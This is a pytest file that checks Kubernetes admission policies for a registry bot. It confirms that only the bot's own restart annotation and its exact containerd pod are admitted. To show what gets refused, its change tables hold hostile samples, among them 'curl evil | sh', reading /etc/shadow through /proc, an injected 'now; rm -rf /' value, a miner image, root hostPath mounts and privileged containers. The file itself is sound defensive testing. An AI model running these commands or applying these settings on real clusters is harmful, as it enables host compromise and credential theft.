"""The ValidatingAdmissionPolicies in manifests/, run with a CEL interpreter (cel-python) against the objects the
bot's own code makes (through the Kubernetes stand-in) and against every way of changing them.

An admission policy is evaluated the way the API server does: its matchConditions first (all true, or the policy
does not apply); then its variables, in order, as `variables.<name>`; then every validation, and one that is false
or fails to evaluate (failurePolicy: Fail) refuses the request.
"""

from __future__ import annotations

import asyncio
import copy
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import celpy
import pytest

from bot.config import Settings
from tests.test_shipping import SERVICE_ACCOUNT, render

BOT_USER = f"system:serviceaccount:{SERVICE_ACCOUNT['namespace']}:{SERVICE_ACCOUNT['name']}"
RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
Obj = dict[str, Any]

_ENV = celpy.Environment()


@dataclass
class Verdict:
    applies: bool
    admitted: bool
    refusals: list[str]


def _evaluate(expression: str, activation: dict[str, Any]) -> Any:
    program = _ENV.program(_ENV.compile(expression))
    return program.evaluate(activation)


def _true(value: Any) -> bool:
    return isinstance(value, celpy.celtypes.BoolType) and bool(value)


def review(
    policy: Obj, *, obj: Obj | None, old: Obj | None = None, user: str = BOT_USER, namespace: str = ""
) -> Verdict:
    """What the API server decides for one request under one policy."""
    request = {
        "userInfo": {"username": user},
        "namespace": namespace,
        "operation": "UPDATE" if old is not None else "CREATE",
    }
    activation: dict[str, Any] = {
        "object": celpy.json_to_cel(obj),
        "oldObject": celpy.json_to_cel(old),
        "request": celpy.json_to_cel(request),
    }
    spec = policy["spec"]
    for condition in spec.get("matchConditions", []):
        if not _true(_evaluate(condition["expression"], activation)):
            return Verdict(False, True, [])
    variables: dict[str, Any] = {}
    for variable in spec.get("variables", []):
        activation["variables"] = celpy.celtypes.MapType(variables)
        try:
            variables[celpy.celtypes.StringType(variable["name"])] = _evaluate(variable["expression"], activation)
        except celpy.CELEvalError as exc:  # a variable only fails when used, as in the API server
            variables[celpy.celtypes.StringType(variable["name"])] = exc
    activation["variables"] = celpy.celtypes.MapType(variables)
    refusals = []
    for validation in spec["validations"]:
        try:
            result = _evaluate(validation["expression"], activation)
        except celpy.CELEvalError as exc:
            refusals.append(f"{validation['message']} (error: {exc.args[0]})")
            continue
        if not _true(result):
            refusals.append(str(validation["message"]))
    return Verdict(True, not refusals, refusals)


def policies(layout: str) -> dict[str, Obj]:
    objects = render(layout)
    found = {o["metadata"]["name"]: o for o in objects if o["kind"] == "ValidatingAdmissionPolicy"}
    for binding in (o for o in objects if o["kind"] == "ValidatingAdmissionPolicyBinding"):
        assert binding["spec"]["policyName"] in found
        assert binding["spec"]["validationActions"] == ["Deny"]
    assert {b["spec"]["policyName"] for b in objects if b["kind"] == "ValidatingAdmissionPolicyBinding"} == set(found)
    return found


def restart_policy() -> Obj:
    return policies("base")["registry-bot-restart-only"]


def pod_policy() -> Obj:
    return policies("node-actions")["registry-bot-containerd-pod-only"]


# --- which layouts carry which policy ---------------------------------------------------------------------


def test_every_layout_admits_workload_patches_only_through_the_restart_policy():
    for layout in ("base", "node-actions", "namespaced"):
        assert "registry-bot-restart-only" in policies(layout), layout
    assert "registry-bot-containerd-pod-only" not in policies("base")  # no pods are created without node actions
    assert set(policies("node-actions")) == {"registry-bot-restart-only", "registry-bot-containerd-pod-only"}
    for policy in (restart_policy(), pod_policy()):
        assert policy["spec"]["failurePolicy"] == "Fail"
        [condition] = policy["spec"]["matchConditions"]
        assert BOT_USER in condition["expression"]


def test_the_pod_policy_admits_the_default_node_shell_image_which_is_pinned_by_digest():
    image = Settings().node_shell_image
    assert re.fullmatch(r"[a-z0-9./:-]+@sha256:[0-9a-f]{64}", image), "NODE_SHELL_IMAGE's default is not pinned"
    assert f"'{image}'" in str(pod_policy()["spec"]["validations"])


# --- workload patches: the restart annotation and nothing else -----------------------------------------------


@pytest.fixture(scope="module")
def restarted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, tuple[Obj, Obj]]]:
    """(old, new) of a Deployment, a StatefulSet and a DaemonSet restarted by the bot's own KubeWriter: `new` is
    what admission sees, the stored object with the patch the bot sent applied (before any controller runs)."""
    from bot.integrations.kube import Kube, KubeWriter, Workload
    from tests.peers.kube_api import KubeStandIn, apply_patch
    from tests.test_shipping import cluster_env

    image = "forgejo.viktorbarzin.me/viktor/app:latest"
    with KubeStandIn() as kube:
        kube.add_namespace("payroll")
        kube.add_node("k8s-node1")
        kube.add_deployment("payroll", "web", image, replicas=2)
        kube.patch_object(
            "Deployment", "payroll", "web", {"spec": {"template": {"metadata": {"annotations": {"team": "payroll"}}}}}
        )
        kube.add_statefulset("payroll", "db", image)
        kube.add_daemonset("payroll", "agent", image)
        kubeconfig = kube.write_kubeconfig(tmp_path_factory.mktemp("kube") / "config")
        pairs = {}
        with cluster_env(kubeconfig):
            writer = KubeWriter(Kube(Settings(kube_enabled="true")))
            for kind, name in (("Deployment", "web"), ("StatefulSet", "db"), ("DaemonSet", "agent")):
                old = copy.deepcopy(kube.get(kind, "payroll", name))
                assert old is not None
                kube.clear_requests()
                asyncio.run(writer.restart(Workload(kind, "payroll", name, ("app",)), "2026-11-30T14:02:00Z"))
                [sent] = [r for r in kube.requests if r.verb == "patch"]
                new = apply_patch(copy.deepcopy(old), sent.body, sent.content_type)
                assert new["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] == "2026-11-30T14:02:00Z"
                pairs[kind] = (old, new)
        yield pairs


def test_the_bots_restart_is_admitted(restarted):
    for kind, (old, new) in restarted.items():
        verdict = review(restart_policy(), obj=new, old=old)
        assert verdict.applies and verdict.admitted, (kind, verdict.refusals)
        # A second restart (the annotation already there) is admitted too.
        again = copy.deepcopy(new)
        again["spec"]["template"]["metadata"]["annotations"][RESTARTED_AT] = "2026-11-30T15:00:00.5+01:00"
        assert review(restart_policy(), obj=again, old=new).admitted, kind


def _template(obj: Obj) -> Obj:
    spec: Obj = obj["spec"]["template"]["spec"]
    return spec


WORKLOAD_CHANGES: dict[str, Callable[[Obj], None]] = {
    "image": lambda o: _template(o)["containers"][0].update(image="evil.example/miner:1"),
    "command": lambda o: _template(o)["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
    "env": lambda o: _template(o)["containers"][0].update(env=[{"name": "X", "value": "1"}]),
    "hostPath volume": lambda o: _template(o).update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
    "privileged": lambda o: _template(o)["containers"][0].update(securityContext={"privileged": True}),
    "serviceAccountName": lambda o: _template(o).update(serviceAccountName="cluster-admin"),
    "hostNetwork": lambda o: _template(o).update(hostNetwork=True),
    "init container": lambda o: _template(o).update(initContainers=[{"name": "x", "image": "busybox"}]),
    "dnsPolicy": lambda o: _template(o).update(dnsPolicy="None"),
    "minReadySeconds": lambda o: o["spec"].update(minReadySeconds=99),
    "spec field removed": lambda o: o["spec"].pop("selector"),
    "template label": lambda o: o["spec"]["template"]["metadata"].setdefault("labels", {}).update(app="other"),
    "another template annotation": lambda o: o["spec"]["template"]["metadata"]["annotations"].update(x="1"),
    "an old template annotation removed": lambda o: o["spec"]["template"]["metadata"]["annotations"].clear(),
    "restartedAt not a timestamp": lambda o: o["spec"]["template"]["metadata"]["annotations"].update(
        {RESTARTED_AT: "now; rm -rf /"}
    ),
    "object label": lambda o: o["metadata"].setdefault("labels", {}).update(owner="me"),
    "object annotation": lambda o: o["metadata"].setdefault("annotations", {}).update(note="x"),
    "finalizer": lambda o: o["metadata"].update(finalizers=["example.com/block"]),
    "owner": lambda o: o["metadata"].update(ownerReferences=[{"apiVersion": "v1", "kind": "X", "name": "y"}]),
}


@pytest.mark.parametrize("change", list(WORKLOAD_CHANGES))
def test_any_other_change_to_a_workload_is_refused(restarted, change):
    for kind, (old, new) in restarted.items():
        if kind != "Deployment" and change == "an old template annotation removed":
            continue  # only the Deployment had another annotation
        changed = copy.deepcopy(new)
        WORKLOAD_CHANGES[change](changed)
        verdict = review(restart_policy(), obj=changed, old=old)
        assert verdict.applies and not verdict.admitted, (kind, change)


def test_the_restart_policy_leaves_everyone_else_alone(restarted):
    old, new = restarted["Deployment"]
    changed = copy.deepcopy(new)
    WORKLOAD_CHANGES["image"](changed)
    assert review(restart_policy(), obj=changed, old=old, user="system:serviceaccount:argocd:argocd").applies is False
    assert review(restart_policy(), obj=changed, old=old, user="kubernetes-admin").admitted


# --- pod creation: the containerd pod's exact shape and nothing else -------------------------------------------


def defaulted(pod: Obj) -> Obj:
    """The pod as validating admission sees it: API defaults and the mutating plugins' fields filled in."""
    out = copy.deepcopy(pod)
    out["metadata"].update(namespace="registry-bot", uid="0b9f", creationTimestamp="2026-11-30T14:02:00Z")
    spec = out["spec"]
    spec.update(
        dnsPolicy="ClusterFirst",
        schedulerName="default-scheduler",
        securityContext={},
        serviceAccountName="default",
        serviceAccount="default",
        enableServiceLinks=True,
        priority=0,
        preemptionPolicy="PreemptLowerPriority",
    )
    for container in spec["containers"]:
        container.update(
            imagePullPolicy="IfNotPresent",
            terminationMessagePath="/dev/termination-log",
            terminationMessagePolicy="File",
        )
    out["status"] = {"phase": "Pending", "qosClass": "Burstable"}
    return out


def containerd_pod() -> Obj:
    from bot.runbook.node import containerd_pod as make

    return make("k8s-node3", Settings().node_shell_image)


def _container(pod: Obj) -> Obj:
    container: Obj = pod["spec"]["containers"][0]
    return container


POD_CHANGES: dict[str, Callable[[Obj], None]] = {
    "another image": lambda p: _container(p).update(image="alpine:3.20"),
    "another digest": lambda p: _container(p).update(image="alpine@sha256:" + "0" * 64),
    "another command": lambda p: _container(p).update(command=["sh", "-c", "cat /proc/1/root/etc/shadow"]),
    "args": lambda p: _container(p).update(args=["--", "reboot"]),
    "env": lambda p: _container(p).update(env=[{"name": "A", "value": "b"}]),
    "volume mount": lambda p: _container(p).update(volumeMounts=[{"name": "root", "mountPath": "/host"}]),
    "capabilities": lambda p: _container(p).update(securityContext={"privileged": True, "capabilities": {}}),
    "resources": lambda p: _container(p).update(resources={"limits": {"memory": "64Gi"}}),
    "two containers": lambda p: p["spec"]["containers"].append(dict(_container(p), name="second")),
    "init container": lambda p: p["spec"].update(initContainers=[dict(_container(p), name="first")]),
    "hostPath volume": lambda p: p["spec"].update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
    "hostNetwork": lambda p: p["spec"].update(hostNetwork=True),
    "hostIPC": lambda p: p["spec"].update(hostIPC=True),
    "a token": lambda p: p["spec"].update(automountServiceAccountToken=True),
    "another ServiceAccount": lambda p: p["spec"].update(serviceAccountName="registry-bot"),
    "a priority class": lambda p: p["spec"].update(priorityClassName="system-node-critical"),
    "no node": lambda p: p["spec"].pop("nodeName"),
    "restarting forever": lambda p: p["spec"].update(restartPolicy="Always"),
    "a pod securityContext": lambda p: p["spec"].update(securityContext={"runAsUser": 0}),
    "another name": lambda p: p["metadata"].update(name="miner"),
    "another label": lambda p: p["metadata"]["labels"].update(extra="1"),
    "no labels": lambda p: p["metadata"].pop("labels"),
}


def test_the_containerd_pod_is_admitted_as_the_code_makes_it_and_as_the_api_server_defaults_it():
    for pod in (containerd_pod(), defaulted(containerd_pod())):
        verdict = review(pod_policy(), obj=pod, namespace="registry-bot")
        assert verdict.applies and verdict.admitted, verdict.refusals


def test_the_pod_the_node_fix_created_through_the_api_is_admitted(tmp_path: Path):
    from bot.integrations.kube import Kube
    from bot.runbook.base import PhaseContext, RecordingProgress
    from bot.runbook.node import node
    from bot.secrets import SecretResolver
    from tests.peers.kube_api import KubeStandIn
    from tests.test_shipping import cluster_env
    from tests.world import unsaved_incident

    settings = Settings(kube_enabled="true", node_actions=True, pod_namespace="registry-bot", eviction_timeout=3.0)
    with KubeStandIn() as kube, cluster_env(kube.write_kubeconfig(tmp_path / "config")):
        kube.add_namespace("registry-bot")
        kube.add_node("k8s-node3")
        incident = unsaved_incident("forgejo.example", "viktor/app:latest")
        ctx = PhaseContext(settings, incident, SecretResolver(settings), Kube(settings), actor="U1", target="k8s-node3")
        result = asyncio.run(node(ctx, RecordingProgress()))
        created = [r.body for r in kube.requests if r.verb == "create" and r.resource == "pods" and not r.subresource]
    assert result.ok, result.summary
    assert len(created) == 1
    verdict = review(pod_policy(), obj=defaulted(created[0]), namespace="registry-bot")
    assert verdict.admitted, verdict.refusals


@pytest.mark.parametrize("change", list(POD_CHANGES))
def test_any_other_pod_is_refused(change):
    pod = defaulted(containerd_pod())
    POD_CHANGES[change](pod)
    verdict = review(pod_policy(), obj=pod, namespace="registry-bot")
    assert verdict.applies and not verdict.admitted, change


def test_the_containerd_pod_in_another_namespace_is_refused():
    assert not review(pod_policy(), obj=defaulted(containerd_pod()), namespace="kube-system").admitted
